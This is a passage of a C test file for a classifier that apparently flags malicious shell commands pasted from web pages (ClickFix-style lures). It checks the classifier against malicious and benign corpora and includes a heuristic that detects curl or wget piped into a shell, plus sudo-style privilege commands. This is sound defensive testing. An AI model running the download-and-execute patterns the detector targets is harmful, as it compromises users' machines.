    char *buf;
    size_t n;
};

static int load(const char *name, struct corpus *c)
{
    const char *dir = getenv("ISOLATE_CORPUS");
    char path[4096];
    FILE *f;
    long size;

    if (!dir || !*dir) dir = "../shared/corpus";
    snprintf(path, sizeof path, "%s/%s", dir, name);
    if (!(f = fopen(path, "rb"))) {
        ok(0, "corpus file %s is missing: set ISOLATE_CORPUS or run from the repository root",
           path);
        return -1;
    }
    fseek(f, 0, SEEK_END);
    size = ftell(f);
    rewind(f);
    c->buf = malloc((size_t)size + 1);
    c->n = fread(c->buf, 1, (size_t)size, f);
    c->buf[c->n] = 0;
    fclose(f);
    return 0;
}

/* Calls fn on each non-empty line. */
#define EACH_LINE(c, l, len)                                                                       \
    for (char *l = (c)->buf, *e_ = NULL; l < (c)->buf + (c)->n; l = e_ + 1)                        \
        for (size_t len = (size_t)((e_ = memchr(l, '\n', (size_t)((c)->buf + (c)->n - l)))         \
                                       ? e_ - l                                                    \
                                       : (e_ = (c)->buf + (c)->n) - l),                            \
                    once_ = 1;                                                                     \
             once_ && len; once_ = 0)

static int word_at(const char *s, size_t n, const char *w)
{
    size_t k = strlen(w);
    for (size_t i = 0; i + k <= n; i++)
        if (!memcmp(s + i, w, k) && (i == 0 || strchr(" ;&|(`", s[i - 1])) &&
            (i + k == n || strchr(" ;&|)`", s[i + k])))
            return 1;
    return 0;
}

/* w as a command: first on the line, or after | ; & ( ` (spaces aside). */
static int command_at(const char *s, size_t n, const char *w)
{
    size_t k = strlen(w);
    for (size_t i = 0; i + k <= n; i++) {
        size_t j = i;
        if (memcmp(s + i, w, k) || (i + k < n && !strchr(" \t;&|)`", s[i + k]))) continue;
        while (j > 0 && s[j - 1] == ' ') j--;
        if (j == 0 || strchr(";&|(`", s[j - 1])) return 1;
    }
    return 0;
}

/* Plain text tests, independent of the classifier: a real installer pipes a
 * download into a shell; a privilege line runs sudo and the like. */
static int category(const char *s, size_t n)
{
    if ((word_at(s, n, "curl") || word_at(s, n, "wget")) &&
        (memmem(s, n, "| sh", 4) || memmem(s, n, "| bash", 6) || memmem(s, n, "$(curl", 6)))
        return 0;
    if (command_at(s, n, "sudo") || command_at(s, n, "doas") || command_at(s, n, "pkexec") ||
        command_at(s, n, "gksudo") || command_at(s, n, "run0") || command_at(s, n, "su"))
        return 1;
    return 2;
}

static void test_corpus(void)
{
    struct corpus c;
    size_t total = 0, warned = 0, cat_n[3] = {0}, cat_w[3] = {0}, not_priv = 0;
    struct iso_paste_result res;

    if (load("clickfix-patterns-malicious.txt", &c) == 0) {
        EACH_LINE(&c, l, len)
        {
            total++;
            if (iso_paste_classify(l, len, NULL))
                warned++;
            else
                diag("  not warned: %.*s", (int)len, l);
        }
        ok(total > 100 && warned == total, "every malicious corpus line warns (%zu/%zu)", warned,
           total);
        free(c.buf);
    }
    total = warned = 0;
    if (load("clickfix-patterns-benign.txt", &c) == 0) {
        EACH_LINE(&c, l, len)
        {
            total++;
            if (iso_paste_classify(l, len, &res)) {
                warned++;
                for (unsigned i = 0; i < res.nfindings; i++)
                    if (strcmp(res.findings[i].rule, "privilege")) not_priv++;
                diag("  warned: %.*s", (int)len, l);
            }
        }
        /* the one benign line that warns is "sudo apt update": sudo warns by design */
        ok(total > 100 && warned * 100 <= total * 2 && not_priv == 0,
           "benign look-alikes: %zu of %zu warn, all for sudo", warned, total);
        free(c.buf);
    }
    if (load("tldr-commands.txt", &c) == 0) {
        EACH_LINE(&c, l, len)
        {
            int k = category(l, len);
            cat_n[k]++;
            cat_w[k] += (size_t)iso_paste_classify(l, len, NULL);
        }
        ok(cat_n[0] > 0 && cat_w[0] == cat_n[0], "tldr: every real installer warns (%zu/%zu)",
           cat_w[0], cat_n[0]);
        ok(cat_w[1] == cat_n[1], "tldr: every sudo, su, doas, pkexec line warns (%zu/%zu)",
           cat_w[1], cat_n[1]);
        ok(cat_n[2] > 20000 && cat_w[2] * 100 <= cat_n[2],
           "tldr: at most 1%% of the other lines warn (%zu/%zu)", cat_w[2], cat_n[2]);
        free(c.buf);
    }
}

int main(void)
{
    CASES("download piped or substituted into a shell or interpreter", download_shell);
    CASES("download, then execute", download_exec);
    CASES("decode to shell", decode);
    CASES("interpreter one-liners", interp);
    CASES("reverse shells", revshell);
    CASES("persistence", persist);
    CASES("destructive", destroy);
    CASES("credential exfiltration", exfil);
    CASES("privilege", priv);
    CASES("history tampering", hist);
    CASES("obfuscation", obf);
    CASES("hidden content", hidden);
    CASES("multi-line pastes", multi);
    test_findings_detail();
    test_output();
    test_check_run();
    test_limits();
    test_corpus();
    return done_testing();
}
